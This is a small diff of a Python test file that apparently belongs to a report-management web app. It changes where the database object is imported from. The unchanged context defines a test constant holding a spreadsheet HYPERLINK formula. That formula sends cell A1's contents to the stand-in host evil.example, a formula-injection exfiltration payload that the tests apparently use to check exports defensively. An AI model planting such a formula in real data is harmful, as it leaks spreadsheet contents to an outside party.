@@ -12,7 +12,8 @@ from reports.api_keys import create_api_key
 from reports.models import Report
 from reports.workflow import get_by_tracking_code
 from tests.desk.conftest import KIM_LONG, login, make_report, reports, staff  # noqa: F401  (fixtures)
-from webapp.extensions import db, limiter
+from store import db
+from webapp.extensions import limiter
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Xem ảnh")'
 
